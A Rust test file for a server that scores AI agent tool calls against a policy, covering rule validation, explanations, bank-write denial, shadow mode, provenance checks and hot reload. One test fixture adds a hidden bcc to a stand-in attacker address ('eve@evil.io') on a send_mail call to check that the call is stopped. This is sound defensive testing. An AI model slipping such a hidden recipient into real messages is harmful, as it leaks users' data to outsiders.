//! The policy file: checked, explained, applied to every answer, and replaced under load.

// Tests may stop at the first surprise.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use rhumb_proto::v1::{Mode, Outcome, Provenance, ScoreRequest, ScoreResponse, Status, Verdict};
use rhumb_tests::samples::{aligned, drifted, fresh, message, request};
use rhumb_tests::{Client, Server, run};
use serde_json::{Value, json};
use tempfile::TempDir;

const SITE: &str = r#"
[[effects]]
tools = ["get_*"]
effect = "READ"

[[rules]]
name = "bank"
match = { servers = ["bank*"], effects = ["WRITE"] }
set = { threshold = 0.0, write = "DENY", far = 0.0 }

[[rules]]
name = "bank tried out"
match = { servers = ["bank-test"] }
set = { mode = "shadow" }

[[rules]]
name = "signed only"
match = { tools = ["delete_*"], tenants = ["blue"] }
set = { min_provenance = "SIGNED" }
"#;

fn write(folder: &TempDir, text: &str) -> PathBuf {
    let file = folder.path().join("site.toml");
    std::fs::write(&file, text).unwrap();
    file
}

fn with_policy(file: &Path) -> String {
    format!("[server]\npolicy = \"{}\"\n", file.display())
}

fn on(server: &str, mut request: Value) -> ScoreRequest {
    request["action"]["server"] = json!(server);
    message(&request)
}

async fn score(client: &mut Client, request: ScoreRequest) -> ScoreResponse {
    client.score(request).await.unwrap().into_inner()
}

fn policy(args: &[&str]) -> (i32, String, String) {
    let run = run(["policy"].iter().chain(args), b"");
    (run.code, String::from_utf8(run.stdout).unwrap(), run.stderr)
}

#[test]
fn a_file_is_checked_and_its_faults_have_a_line() {
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, SITE);
    let (code, out, _) = policy(&["check", file.to_str().unwrap()]);
    assert!(code == 0 && out.starts_with("site@") && out.contains("3 rules"), "{out}");
    for (text, line, key) in [
        ("[defaults]\nmode = \"enforce\"\ntreshold = 0.5\n", "line 3", "treshold"),
        ("\n[[rules]]\nname = \"a\"\nset = { threshold = \"7\" }\n", "line 4", "threshold"),
        ("\n[[rules]]\nname = \"a\"\nset = { threshold = 7.0 }\n", "line 2", "set.threshold"),
        ("[[rules]]\nset = {}\n", "line 1", "name"),
        ("[[effects]]\ntools = [\"x\"]\neffect = \"MAYBE\"\n", "line 3", "MAYBE"),
        ("[defaults\n", "line 1", ""),
    ] {
        let file = write(&folder, text);
        let (code, out, err) = policy(&["check", file.to_str().unwrap()]);
        assert_eq!((code, out.as_str()), (2, ""), "{text}");
        assert!(err.contains("site.toml") && err.contains(line) && err.contains(key), "{text}: {err}");
    }
    assert_eq!(policy(&["check", "no such file"]).0, 2);
}

#[test]
fn explain_names_every_rule_and_why_it_is_or_is_not_about_the_action() {
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, SITE);
    let file = file.to_str().unwrap();
    let told = ["--tool", "send_money", "--server", "bank-test", "--effect", "WRITE", "--drift", "0.7"];
    let (code, out, _) = policy(&[&["explain", file], &told[..]].concat());
    assert_eq!(code, 0);
    for part in
        ["bank tried out", "no: tenants", "mode                   shadow", "DENY (intent_drift), pass"]
    {
        assert!(out.contains(part), "{part}: {out}");
    }
    let (_, out, _) = policy(&[&["explain", file, "--json"], &told[..]].concat());
    let found: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(found["rules"], json!(["bank", "bank tried out"]));
    assert_eq!((&found["told"]["verdict"], &found["told"]["outcome"]), (&json!("DENY"), &json!("pass")));
    let (_, out, _) = policy(&["explain", file, "--tool", "get_balance", "--effect", "WRITE"]);
    assert!(out.contains("effect READ by [[effects]]"), "{out}");
    let (code, _, err) = policy(&["explain", file, "--surface", "enovy"]);
    assert!(code == 2 && err.contains("--surface"), "{err}");
}

#[test]
fn explain_takes_an_action_as_it_would_be_sent() {
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, SITE);
    let action = folder.path().join("action.json");
    let mut request = aligned("1");
    request["action"]["server"] = json!("bank");
    std::fs::write(&action, request.to_string()).unwrap();
    let args = ["explain", file.to_str().unwrap(), "--json", "--request", action.to_str().unwrap()];
    let (_, out, _) = policy(&args);
    let found: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((&found["rules"], &found["effect"]), (&json!(["bank"]), &json!("WRITE")));
}

#[tokio::test(flavor = "multi_thread")]
async fn rules_decide_by_server_mode_and_provenance_and_the_answer_names_them() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(&with_policy(&write(&folder, SITE))).await;
    let mut client = server.client().await;
    let plain = score(&mut client, message(&aligned("1"))).await;
    assert_eq!(
        (plain.verdict(), plain.outcome(), plain.mode()),
        (Verdict::Allow, Outcome::Pass, Mode::Enforce)
    );
    assert!(plain.rules.is_empty() && plain.policy.starts_with("site@"), "{plain:?}");
    let bank = score(&mut client, on("bank", aligned("2"))).await;
    assert_eq!((bank.verdict(), bank.outcome()), (Verdict::Deny, Outcome::Stop), "threshold 0");
    assert_eq!((bank.threshold, bank.drift), (Some(0.0), plain.drift), "the score itself is the same");
    let tried = score(&mut client, on("bank-test", aligned("3"))).await;
    assert_eq!(
        (tried.verdict(), tried.outcome(), tried.mode()),
        (Verdict::Deny, Outcome::Pass, Mode::Shadow)
    );
    assert_eq!(tried.rules, ["bank", "bank tried out"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_may_ask_for_shadow_and_demand_more_but_never_less() {
    let folder = tempfile::tempdir().unwrap();
    let text = format!("{SITE}\n[defaults]\nmin_provenance = {{ write = \"UNVERIFIED\" }}\n");
    let server = Server::start(&with_policy(&write(&folder, &text))).await;
    let mut client = server.client().await;
    let asked = ScoreRequest { mode: Mode::Shadow.into(), ..message(&drifted("1")) };
    let shadow = score(&mut client, asked).await;
    assert!(shadow.verdict() > Verdict::Warn && shadow.outcome() == Outcome::Pass, "{shadow:?}");
    let asked = ScoreRequest { min_provenance: Provenance::Signed.into(), ..message(&aligned("2")) };
    let demanded = score(&mut client, asked).await;
    assert_eq!((demanded.verdict(), demanded.outcome()), (Verdict::Escalate, Outcome::Stop));
    assert_eq!(demanded.reason_code, "provenance_too_low");
    let without =
        ScoreRequest { intent: None, min_provenance: Provenance::None.into(), ..message(&aligned("3")) };
    let without = score(&mut client, without).await;
    assert_eq!((without.status(), without.outcome()), (Status::NoAnchor, Outcome::Stop));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_policy_takes_hold_without_a_lost_request_and_a_broken_one_does_not() {
    const LENIENT: &str = "[defaults]\nthreshold = 1.0\n";
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, LENIENT);
    let server = Server::start(&with_policy(&file)).await;
    let mut client = server.client().await;
    let before = score(&mut client, message(&drifted("before"))).await;
    assert_eq!(before.verdict(), Verdict::Allow);

    let (ended, answered) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
    let load = {
        let (ended, answered, mut client) =
            (Arc::clone(&ended), Arc::clone(&answered), server.client().await);
        tokio::spawn(async move {
            while !ended.load(Ordering::Relaxed) {
                let n = answered.fetch_add(1, Ordering::Relaxed);
                client.score(message(&fresh(&n.to_string(), "reload"))).await.unwrap();
            }
        })
    };
    // However slow the machine is, the policies change while there is load.
    let loaded = async |calls: usize| {
        let reached = async {
            while answered.load(Ordering::Relaxed) < calls {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        };
        tokio::time::timeout(Duration::from_secs(30), reached).await.unwrap();
    };
    loaded(2).await;
    write(&folder, "[defaults]\nthreshold = 0.0\n");
    server.hang_up();
    server.says("policy read again").await;
    let after = score(&mut client, message(&drifted("after"))).await;
    assert!(after.verdict() > Verdict::Warn && after.policy != before.policy, "{after:?}");

    write(&folder, "[defaults]\nthreshold = 2.0\n");
    server.hang_up();
    server.says("the policy was not replaced").await;
    let still = score(&mut client, message(&drifted("still"))).await;
    assert_eq!((still.verdict(), &still.policy), (after.verdict(), &after.policy));
    loaded(answered.load(Ordering::Relaxed) + 2).await;
    ended.store(true, Ordering::Relaxed);
    load.await.unwrap();
    assert!(answered.load(Ordering::Relaxed) > 2);
}

#[test]
fn a_server_does_not_start_on_a_policy_that_cannot_be_used() {
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, "[[rules]]\nname = \"a\"\nset = { far = 3.0 }\n");
    let mut server = Server::spawn(&with_policy(&file));
    assert_eq!(server.wait().code(), Some(2));
    assert!(server.stderr().contains("line 1: rule \"a\": set.far"), "{}", server.stderr());
}

#[test]
fn history_is_scored_by_a_policy_that_is_tried_out() {
    let folder = tempfile::tempdir().unwrap();
    let file = write(&folder, "[defaults]\nthreshold = 0.0\nwrite = \"DENY\"\nwrite_far = \"DENY\"\n");
    let line = aligned("1").to_string() + "\n";
    let args = ["score", "--policy", file.to_str().unwrap()];
    let tried = run(args, line.as_bytes());
    let answer: Value = serde_json::from_slice(&tried.stdout).unwrap();
    assert_eq!((&answer["verdict"], &answer["outcome"]), (&json!("DENY"), &json!("STOP")), "{answer}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_that_nobody_knows_is_stopped_where_the_policy_says_so() {
    let folder = tempfile::tempdir().unwrap();
    let rule = "[[rules]]\nname = \"mail\"\nmatch = { tools = [\"send_*\"] }\nset = { new_address = \"ESCALATE\" }\n";
    let server = Server::start(&with_policy(&write(&folder, rule))).await;
    let mut client = server.client().await;
    let mail = |id: &str, tool: &str, more: Value| {
        let mut arguments = json!({"to": "anna@corp.com", "subject": "Report"});
        arguments.as_object_mut().unwrap().extend(more.as_object().cloned().unwrap());
        let action = json!({"tool": tool, "effect": "WRITE", "arguments": arguments});
        request(id, json!({"text": "Send the report to anna@corp.com."}), action)
    };
    let right = score(&mut client, message(&mail("1", "send_mail", json!({})))).await;
    assert!(right.verdict() <= Verdict::Warn, "{right:?}");
    let hidden = json!({"bcc": "eve@evil.io"});
    let stopped = score(&mut client, message(&mail("2", "send_mail", hidden.clone()))).await;
    assert!(stopped.verdict() >= Verdict::Escalate && stopped.outcome() == Outcome::Stop, "{stopped:?}");
    let findings = stopped.evidence.unwrap().findings;
    assert!(findings.contains(&"new_address:arguments.bcc".to_owned()), "{findings:?}");
    let elsewhere = score(&mut client, message(&mail("3", "post_mail", hidden.clone()))).await;
    assert!(elsewhere.reason_code != "new_address", "{elsewhere:?}");
    let mut known = mail("4", "send_mail", hidden);
    known["context"] = json!([{"text": "Carbon copies go to eve@evil.io.", "trusted": true}]);
    let known = score(&mut client, message(&known)).await;
    assert!(known.reason_code != "new_address", "{known:?}");
}
